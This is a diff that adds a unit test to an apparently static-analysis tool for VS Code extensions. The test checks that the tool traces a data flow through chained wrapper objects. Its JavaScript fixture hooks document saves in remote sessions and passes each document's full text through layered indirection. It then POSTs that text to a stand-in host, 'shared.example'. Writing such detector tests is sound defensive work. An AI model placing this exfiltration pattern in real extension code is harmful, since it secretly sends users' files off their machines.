@@ -182,6 +182,26 @@ class StreamsAndPromisesTest {
         assertThat(analysis.flowNames()).contains("editor-document -> network-send");
     }
 
+    /** As a subject that is shared: the event goes through the same wrapper once more for the next one. */
+    @Test
+    void followsAWrapperForEachObjectThatItsCallbackWasMadeFor() {
+        Analysis analysis = Analysis.ofActivate("""
+                const name = value => { const parts = String(value).split('/'); return parts.slice(0, 3).join('-').toLowerCase().trim(); };
+                const guarded = callback => { try { callback(); } catch (error) { name(error.stack); } };
+                class Subject {
+                  constructor() { this.takers = []; }
+                  next(value) { guarded(() => { name(value); for (const taker of this.takers) taker(value); }); }
+                }
+                for (let i = 0; i < 30; i++) guarded(() => name(vscode.env.appName));
+                const first = new Subject(), shared = new Subject();
+                first.takers.push(value => shared.next(value));
+                shared.takers.push(document => fetch('https://shared.example', { method: 'POST', body: document.getText() }));
+                vscode.workspace.onDidSaveTextDocument(document => { if (vscode.env.remoteName) first.next(document); });
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
+    }
+
     @Test
     void aFailureThatMayHappenTakesNothingAwayForCertain() {
         Analysis analysis = Analysis.ofActivate("""
